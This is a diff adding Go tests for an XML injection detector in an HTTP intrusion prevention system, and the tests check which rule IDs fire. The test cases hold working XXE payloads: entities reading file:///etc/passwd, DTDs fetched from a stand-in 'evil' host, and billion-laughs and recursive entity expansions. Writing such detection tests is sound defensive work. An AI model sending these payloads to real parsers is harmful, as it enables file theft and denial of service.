@@ -0,0 +1,58 @@
+package dpidetector
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/vs-uulm/ztsfc_http_ips/internal/app/config"
+)
+
+func TestDetectXXE(t *testing.T) {
+	detector := newTestDetector(t, "", "", config.ServiceFunctionT{})
+	lol := `<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
+		`<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">` +
+		`<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">` +
+		`<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">`
+
+	tests := []struct {
+		name string
+		body string
+		want []int
+	}{
+		{"plain document", `<a>1</a>`, nil},
+		{"doctype without entities", `<!DOCTYPE a><a>1</a>`, []int{7001}},
+		{"internal entity", `<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>`, []int{7001}},
+		{"external entity", `<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>`, []int{7001, 7002}},
+		{"public entity", `<!DOCTYPE a [<!ENTITY xxe PUBLIC "x" "http://evil/a">]><a>&xxe;</a>`, []int{7001, 7002}},
+		{"parameter entity", `<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil/a.dtd"> %p;]><a/>`, []int{7001, 7002}},
+		{"lower case keyword", `<!DOCTYPE a [<!entity xxe system 'file:///c:/boot.ini'>]><a>&xxe;</a>`,
+			[]int{7001, 7002}},
+		{"billion laughs", `<!DOCTYPE a [` + lol + `<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;` +
+			`&lol4;&lol4;">]><a>&lol5;</a>`, []int{7001, 7003}},
+		{"expansion below the limit", `<!DOCTYPE a [` + lol + `]><a>&lol4;</a>`, []int{7001}},
+		{"recursive entity", `<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>`, []int{7001, 7003}},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			request := testRequest{method: "POST", target: "/", body: test.body,
+				headers: map[string]string{"Content-Type": "application/xml"}}
+			ids := categoryIDs(detect(t, detector, request), CategoryXXE)
+			if !reflect.DeepEqual(ids, test.want) {
+				t.Errorf("matches = %v, want %v", ids, test.want)
+			}
+		})
+	}
+}
+
+// Attribute values are decoded in the normalized view, but kept as received in the raw view
+func TestXMLAttributeViews(t *testing.T) {
+	detector := newTestDetector(t, "test.yml", `rules:
+  - {id: 1000001, category: test, severity: notice, type: literal, pattern: '&#x3c;', targets: [xml], view: raw}
+  - {id: 1000002, category: test, severity: notice, type: literal, pattern: '<script', targets: [xml]}
+`, config.ServiceFunctionT{})
+	request := testRequest{method: "POST", target: "/", headers: map[string]string{"Content-Type": "application/xml"},
+		body: `<a b="&#x3c;script&#x3e;"/>`}
+	if ids := detect(t, detector, request); !reflect.DeepEqual(ids, []int{1000001, 1000002}) {
+		t.Errorf("matches = %v, want the raw and the normalized rule", ids)
+	}
+}